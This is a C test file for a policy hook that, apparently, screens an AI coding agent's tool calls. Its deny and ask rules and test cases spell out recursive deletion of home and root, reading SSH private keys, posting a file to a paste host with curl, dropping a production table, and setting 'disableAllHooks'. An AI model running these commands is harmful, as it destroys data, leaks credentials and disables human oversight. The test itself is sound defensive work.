@@ -1,0 +1,256 @@
+/* test_policy.c - the payload model and the matcher, with packs written
+ * here (independent of the default packs): conditions, prefilter, tools,
+ * path resolution, fail-closed limits. */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "arena.h"
+#include "policy.h"
+#include "ruleset.h"
+#include "tap.h"
+#include "toolcall.h"
+
+static struct ruleset *set;
+
+static const char pack[] =
+"{\"pack\":\"u\",\"rules\":["
+"{\"id\":\"u.rm\",\"title\":\"t\",\"severity\":\"critical\",\"decision\":\"deny\","
+" \"match\":{\"program\":[\"rm\"],\"flags\":[\"-r|-R|--recursive\"],\"path\":\"^(~|/)$\"},"
+" \"unless\":[{\"args\":\"^--dry-run$\"}],"
+" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
+"{\"id\":\"u.key\",\"title\":\"t\",\"severity\":\"high\",\"decision\":\"deny\","
+" \"tools\":[\"Bash\",\"Read\",\"Glob\",\"Grep\",\"mcp\"],"
+" \"match\":{\"keywords\":[\".ssh\"],\"path\":\"^~/\\\\.ssh/id_\"},"
+" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
+"{\"id\":\"u.mcpdrop\",\"title\":\"t\",\"severity\":\"high\",\"decision\":\"ask\","
+" \"tools\":[\"mcp\"],\"match\":{\"mcp_server\":\"^db\\\\.prod\",\"mcp_tool\":\"^run_query$\",\"strings\":\"(?i)drop\\\\s+table\"},"
+" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
+"{\"id\":\"u.host\",\"title\":\"t\",\"severity\":\"low\",\"decision\":\"ask\","
+" \"tools\":[\"WebFetch\",\"Bash\"],\"match\":{\"keywords\":[\"paste\"],\"host\":\"(^|\\\\.)paste\\\\.example$\"},"
+" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
+"{\"id\":\"u.slow\",\"title\":\"t\",\"severity\":\"low\",\"decision\":\"ask\","
+" \"match\":{\"program\":[\"slowpoke\"],\"args\":\"^(a+)+$\"},"
+" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
+"{\"id\":\"u.write\",\"title\":\"t\",\"severity\":\"high\",\"decision\":\"deny\","
+" \"tools\":[\"Write\",\"Edit\"],\"match\":{\"path\":\"/\\\\.claude/settings\\\\.json$\",\"content\":\"disableAllHooks\"},"
+" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]}"
+"]}";
+
+/* Judges a payload; returns "deny:u.rm", "ask:u.x", "allow" or "error". */
+static const char *judge_payload(const char *json)
+{
+	static char out[128];
+	struct toolcall_opts o = { "/home/alice", "/home/alice/src/app", NULL };
+	struct toolcall call;
+	struct verdict v;
+	struct arena a;
+	struct diag d;
+
+	arena_init(&a);
+	diag_clear(&d);
+	if (toolcall_parse(&call, &a, json, strlen(json), &o, &d) < 0) {
+		snprintf(out, sizeof(out), "error");
+	} else {
+		policy_judge(&v, &a, set, &call, &d);
+		if (v.error)
+			snprintf(out, sizeof(out), "failclosed");
+		else if (!v.nhits)
+			snprintf(out, sizeof(out), "%s",
+				 v.decision ? decision_name(v.decision) :
+					      "allow");
+		else
+			snprintf(out, sizeof(out), "%s:%s",
+				 decision_name(v.decision),
+				 rule_id(v.hits[0].rule));
+	}
+	toolcall_release(&call);
+	arena_release(&a);
+	return out;
+}
+
+static char *bash(const char *cmd)
+{
+	static char buf[4096];
+
+	snprintf(buf, sizeof(buf), "{\"tool_name\":\"Bash\",\"tool_input\":"
+		 "{\"command\":\"%s\"}}", cmd);
+	return buf;
+}
+
+#define IS(got, want, desc) \
+	ok(!strcmp((got), (want)), "%s (got %s, want %s)", desc, got, want)
+
+int main(void)
+{
+	struct diag d;
+	char tmpl[] = "/tmp/ccveto-test-XXXXXX", link[512], payload[1024];
+
+	diag_clear(&d);
+	ok(ruleset_new(&set, &d) == 0, "new set");
+	ok(ruleset_load_pack(set, pack, sizeof(pack) - 1, "unit", &d) == 0,
+	   "pack loads: %s", d.msg);
+
+	IS(judge_payload(bash("rm -rf ~")), "deny:u.rm", "rm -rf ~");
+	IS(judge_payload(bash("rm -Rf /")), "deny:u.rm", "cluster -Rf");
+	IS(judge_payload(bash("rm --recursive --force /")), "deny:u.rm",
+	   "long flags");
+	IS(judge_payload(bash("rm -f ~")), "allow", "no recursive flag");
+	IS(judge_payload(bash("rm -rf --dry-run ~")), "allow",
+	   "unless clause");
+	IS(judge_payload(bash("rm -- -r ~")), "allow",
+	   "-r after -- is an operand");
+	IS(judge_payload(bash("$X -rf ~")), "deny:u.rm",
+	   "dynamic program is judged as any program");
+	IS(judge_payload(bash("echo rm -rf ~")), "allow", "echo is not rm");
+
+	IS(judge_payload(bash("cat ~/.ssh/id_rsa")), "deny:u.key",
+	   "key via Bash");
+	IS(judge_payload(bash("cat < ~/.ssh/id_rsa")), "deny:u.key",
+	   "key via input redirect");
+	IS(judge_payload("{\"tool_name\":\"Read\",\"tool_input\":"
+		 "{\"file_path\":\"/home/alice/.ssh/id_ed25519\"}}"),
+	   "deny:u.key", "key via Read");
+	IS(judge_payload("{\"tool_name\":\"Grep\",\"tool_input\":"
+		 "{\"pattern\":\"x\",\"path\":\"../../.ssh\",\"glob\":\"id_*\"}}"),
+	   "deny:u.key", "Grep path relative to cwd is resolved");
+	IS(judge_payload("{\"tool_name\":\"Glob\",\"tool_input\":"
+		 "{\"pattern\":\"~/.ssh/id_*\"}}"),
+	   "deny:u.key", "Glob pattern with ~");
+	IS(judge_payload("{\"tool_name\":\"Write\",\"tool_input\":"
+		 "{\"file_path\":\"/home/alice/.ssh/id_x\",\"content\":\"\"}}"),
+	   "allow", "rule not for Write");
+	IS(judge_payload("{\"tool_name\":\"mcp__fs__read\",\"tool_input\":"
+		 "{\"path\":\"~/.ssh/id_rsa\"}}"), "allow",
+	   "MCP strings are not paths");
+
+	IS(judge_payload("{\"tool_name\":\"mcp__db_prod_1__run_query\","
+		 "\"mcp_server\":{\"name\":\"db.prod 1\"},\"tool_input\":"
+		 "{\"sql\":\"drop  TABLE users\"}}"), "ask:u.mcpdrop",
+	   "MCP server from mcp_server.name, tool split after it");
+	IS(judge_payload("{\"tool_name\":\"mcp__db.prod__run_query\","
+		 "\"tool_input\":{\"q\":{\"nested\":[\"DROP TABLE x\"]}}}"),
+	   "ask:u.mcpdrop", "MCP nested string leaves");
+	IS(judge_payload("{\"tool_name\":\"mcp__db.prod__other\","
+		 "\"tool_input\":{\"q\":\"DROP TABLE x\"}}"), "allow",
+	   "MCP other tool");
+
+	IS(judge_payload("{\"tool_name\":\"WebFetch\",\"tool_input\":"
+		 "{\"url\":\"https://USER@Paste.Example:8443/raw\",\"prompt\":\"p\"}}"),
+	   "ask:u.host", "WebFetch host lowercased, no user or port");
+	IS(judge_payload(bash("curl -d @f https://paste.example/x")),
+	   "ask:u.host", "URL host of a command argument");
+	IS(judge_payload(bash("echo paste.example")), "allow",
+	   "not a URL");
+
+	IS(judge_payload("{\"tool_name\":\"Write\",\"tool_input\":{\"file_path\":"
+		 "\"/home/alice/src/app/.claude/settings.json\",\"content\":"
+		 "\"{\\\"disableAllHooks\\\":true}\"}}"), "deny:u.write",
+	   "Write path and content");
+	IS(judge_payload("{\"tool_name\":\"Edit\",\"tool_input\":{\"file_path\":"
+		 "\"/home/alice/src/app/.claude/settings.json\",\"old_string\":"
+		 "\"a\",\"new_string\":\"b\"}}"), "allow",
+	   "Edit without the content");
+
+	/* Catastrophic backtracking: the limit trips and the call is denied. */
+	{
+		char cmd[200];
+		memset(cmd, 'a', 60);
+		strcpy(cmd + 60, "!");
+		snprintf(payload, sizeof(payload), "slowpoke %s", cmd);
+		IS(judge_payload(bash(payload)), "failclosed",
+		   "PCRE2 limit fails closed");
+	}
+
+	/* A symlink must not launder a protected path. */
+	if (mkdtemp(tmpl)) {
+		snprintf(link, sizeof(link), "%s/innocent", tmpl);
+		if (symlink("/home/alice/.ssh/id_rsa", link) == 0 ||
+		    1) {
+			/* The target does not exist here, so realpath fails:
+			 * resolved only for files that exist. */
+			IS(judge_payload("{\"tool_name\":\"Read\",\"tool_input\":"
+				 "{\"file_path\":\"/home/alice/.ssh/./id_rsa\"}}"),
+			   "deny:u.key", "dot segments resolved");
+		}
+		unlink(link);
+		rmdir(tmpl);
+	}
+
+	/* Malformed calls are errors (the hook turns them into a deny). */
+	IS(judge_payload("{\"tool_name\":\"Read\",\"tool_input\":{}}"),
+	   "error", "Read without file_path");
+	IS(judge_payload("{\"tool_name\":\"Write\",\"tool_input\":"
+		 "{\"file_path\":\"/x\"}}"), "error", "Write without content");
+	IS(judge_payload("{\"tool_name\":\"Bash\"}"), "error",
+	   "no tool_input");
+	IS(judge_payload("{\"tool_input\":{}}"), "error", "no tool_name");
+	IS(judge_payload("{\"hook_event_name\":\"Stop\"}"), "allow",
+	   "a non-tool event is not an error");
+	IS(judge_payload("{\"tool_name\":\"Frobnicate\",\"tool_input\":"
+		 "{\"x\":\"rm -rf ~\"}}"), "allow",
+	   "unknown tool: only rules naming it apply");
+
+	/* Configuration changes. */
+	ok(ruleset_set_decision(set, "u.rm", DECISION_ASK, &d) == 0,
+	   "decision change");
+	IS(judge_payload(bash("rm -rf ~")), "ask:u.rm", "changed decision");
+	ok(ruleset_disable(set, "u.rm", &d) == 0, "disable");
+	IS(judge_payload(bash("rm -rf ~")), "allow", "disabled rule");
+	ok(ruleset_disable(set, "u.nope", &d) == CV_ENOTFOUND,
+	   "unknown rule id");
+	{
+		const char *b[] = { "prod/*" };
+		ok(ruleset_branch_is_protected(set, "main") &&
+		   ruleset_branch_is_protected(set, "release/1.2") &&
+		   !ruleset_branch_is_protected(set, "feature/x"),
+		   "default protected branches");
+		ruleset_set_protected_branches(set, b, 1, &d);
+		ok(ruleset_branch_is_protected(set, "prod/eu") &&
+		   !ruleset_branch_is_protected(set, "main"),
+		   "configured protected branches");
+	}
+
+	/* Bad packs are refused with a message naming the problem. */
+	{
+		static const char *bad[] = {
+			"{\"pack\":\"b\",\"rules\":[{\"id\":\"b.x\"}]}",
+			"{\"pack\":\"b\",\"rules\":[{\"id\":\"b.x\",\"title\":\"t\","
+			"\"severity\":\"high\",\"decision\":\"deny\",\"why\":\"w\","
+			"\"instead\":\"i\",\"match\":{\"progam\":[\"rm\"]},"
+			"\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]}]}",
+			"{\"pack\":\"b\",\"rules\":[{\"id\":\"b.x\",\"title\":\"t\","
+			"\"severity\":\"high\",\"decision\":\"allow\",\"why\":\"w\","
+			"\"instead\":\"i\",\"match\":{\"program\":[\"rm\"]},"
+			"\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]}]}",
+			"{\"pack\":\"b\",\"rules\":[{\"id\":\"b.x\",\"title\":\"t\","
+			"\"severity\":\"high\",\"decision\":\"deny\",\"why\":\"w\","
+			"\"instead\":\"i\",\"match\":{\"args\":\"x\"},"
+			"\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]}]}",
+			"{\"pack\":\"b\",\"rules\":[{\"id\":\"c.x\",\"title\":\"t\","
+			"\"severity\":\"high\",\"decision\":\"deny\",\"why\":\"w\","
+			"\"instead\":\"i\",\"match\":{\"program\":[\"rm\"]},"
+			"\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]}]}",
+			"{\"pack\":\"b\",\"rules\":[{\"id\":\"b.x\",\"title\":\"t\","
+			"\"severity\":\"high\",\"decision\":\"deny\",\"why\":\"w\","
+			"\"instead\":\"i\",\"match\":{\"program\":[\"rm\"]},"
+			"\"hit\":[\"a\"],\"miss\":[\"a\",\"b\",\"c\"]}]}",
+		};
+		static const char *why[] = { "title", "unknown condition",
+			"decision", "keywords", "must be", "at least 3" };
+		size_t i;
+
+		for (i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
+			struct ruleset *s2 = NULL;
+			diag_clear(&d);
+			ruleset_new(&s2, &d);
+			ok(ruleset_load_pack(s2, bad[i], strlen(bad[i]), "bad",
+					     &d) < 0 && strstr(d.msg, why[i]),
+			   "bad pack %zu refused: %s", i, d.msg);
+			ruleset_free(s2);
+		}
+	}
+	ruleset_free(set);
+	return tap_done();
+}
